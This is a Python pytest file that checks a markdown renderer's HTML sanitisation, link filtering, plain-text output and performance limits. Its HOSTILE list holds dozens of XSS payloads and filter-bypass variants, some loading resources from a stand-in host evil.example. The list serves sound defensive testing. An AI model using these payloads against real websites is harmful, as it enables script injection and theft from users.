from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from app.projections.markdown import to_html, to_text

ALLOWED = {
    "p": set(),
    "br": set(),
    "hr": set(),
    "h3": set(),
    "h4": set(),
    "h5": set(),
    "h6": set(),
    "strong": set(),
    "em": set(),
    "s": set(),
    "code": set(),
    "pre": set(),
    "blockquote": set(),
    "ul": set(),
    "ol": {"start"},
    "li": set(),
    "a": {"href", "title", "rel"},
    "table": set(),
    "thead": set(),
    "tbody": set(),
    "tr": set(),
    "th": set(),
    "td": set(),
}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=x>",
    "<embed src=x>",
    "<form action=//evil.example><input>",
    "<math><mi xlink:href='javascript:alert(1)'>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<div style='background:url(javascript:alert(1))'>",
    "<p onclick=alert(1)>x</p>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script>",
    "<plaintext>",
    "<x/onclick=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example)",
    "[x](blob:https://x)",
    "[x](view-source:https://x)",
    "[x](tel:112)",
    "[x](//evil.example)",
    "[x](/admin)",
    "[x](\\\\evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](#a)",
    "[x](?a)",
    "[x]( <javascript:alert(1)> )",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    '![x" onerror="alert(1)](https://evil.example/x.png)',
    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
    "[x](https://a.example 't\" onmouseover=\"alert(1)')",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/<script>alert(1)</script>)",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "﹤script﹥alert(1)﹤/script﹥",
    "＜script＞alert(1)＜/script＞",
    "{{7*7}}",
    "${7*7}",
    "{% raw %}",
    "<%= 7*7 %>",
    "\u202e<script>alert(1)</script>",
    '<a href="https://a.example" target=_blank>x</a>',
    '<https://a.example/?"onmouseover=alert(1)>',
    '<a@b.example"onclick=alert(1)>',
]


class Reader(HTMLParser):
    """What a browser's parser would see: every tag with its attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]):
        self.tags.append((tag, dict(attrs)))


def tags(html: str):
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.tags


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_markdown_becomes_harmless_tags_or_plain_text(hostile: str):
    html = to_html(hostile)

    for tag, attributes in tags(html):
        assert attributes.keys() <= ALLOWED[tag]
        if tag == "a":
            assert re.match(r"(https?://|mailto:)[^\\\s]+$", attributes["href"])
    assert "<!" not in html
    assert "\x00" not in html


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "/admin", "//evil.example"])
def test_a_link_that_may_not_be_is_shown_as_it_was_typed(url: str):
    assert to_html(f"[x]({url})") == f"<p>[x]({url})</p>"


@pytest.mark.parametrize("url", ["https://a.example/x?y=1&z=2", "http://a.example", "mailto:ana@a.example"])
def test_links_to_pages_and_mail_work_and_pass_nothing_on(url: str):
    ((_, paragraph), (tag, attributes)) = tags(to_html(f"[x]({url})"))

    assert (tag, attributes["href"], paragraph) == ("a", url, {})
    assert attributes["rel"] == "nofollow noopener noreferrer"


def test_raw_html_is_shown_as_text():
    assert to_html("a <b>c</b>") == "<p>a &lt;b&gt;c&lt;/b&gt;</p>"


def test_no_image_of_another_server_is_loaded():
    assert "<img" not in to_html("![seal](https://evil.example/track.png)")


def test_headings_take_their_place_below_those_of_the_page():
    assert to_html("# One\n\n## Two\n\n###### Six") == "<h3>One</h3>\n<h4>Two</h4>\n<h6>Six</h6>"


def test_tables_lists_and_emphasis_are_kept():
    html = to_html("| a | b |\n|--:|---|\n| 1 | **2** |\n\n3. x\n4. ~~y~~\n")

    assert "<td>1</td>\n<td><strong>2</strong></td>" in html
    assert '<ol start="3">' in html
    assert "<s>y</s>" in html


@pytest.mark.parametrize(
    "piece",
    [
        "word ",
        "[",
        "[a](",
        "*a ",
        "*_",
        "> ",
        "- ",
        "![",
        "<",
        "&#",
        "[a]: b\n",
        "~~a",
        "|",
        "|-",
        "`",
        "(",
        "a**b",
        "\n    - ",
    ],
)
def test_twenty_thousand_characters_of_anything_are_quick(piece: str):
    text = (piece * 20_000)[:20_000]
    began = time.thread_time()

    to_html(text)
    to_text(text)

    assert time.thread_time() - began < 5  # of its own work: what else the machine does is not counted


def test_a_table_of_twenty_thousand_characters_does_not_grow_out_of_hand():
    text = ("|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + "|\n" * 9_000)[:20_000]

    assert len(to_html(text)) < 2_000_000


def test_text_keeps_the_words_and_loses_the_marks():
    assert to_text("# Head\n\nSome *soft* and **strong** `code`\nhere.") == "Head\n\nSome soft and strong code here."


def test_text_keeps_lists_in_their_order_and_depth():
    assert to_text("Do:\n\n1. one\n2. two\n   - deep\n\nThen rest.") == "Do:\n\n1. one\n2. two\n  - deep\n\nThen rest."


def test_text_gives_a_link_its_address_once():
    assert to_text("[here](https://a.example) <https://b.example> <c@d.example>") == (
        "here (https://a.example) https://b.example c@d.example"
    )


def test_text_writes_a_table_row_by_row():
    assert to_text("| a | b |\n|---|---|\n| 1 | 2 |") == "a | b\n1 | 2"


@pytest.mark.parametrize("hostile", HOSTILE)
def test_text_of_hostile_markdown_has_no_controls(hostile: str):
    assert not re.search(r"[\x00-\x08\x0b-\x1f\ud800-\udfff\u202a-\u202e\u2066-\u2069]", to_text(hostile))


@pytest.mark.parametrize("empty", ["", " ", "\n\n", "[r]: https://a.example", "\x00"])
def test_nothing_gives_nothing(empty: str):
    assert to_html(empty) in {"", "<p>\ufffd</p>"}
    assert to_text(empty) in {"", "\ufffd"}
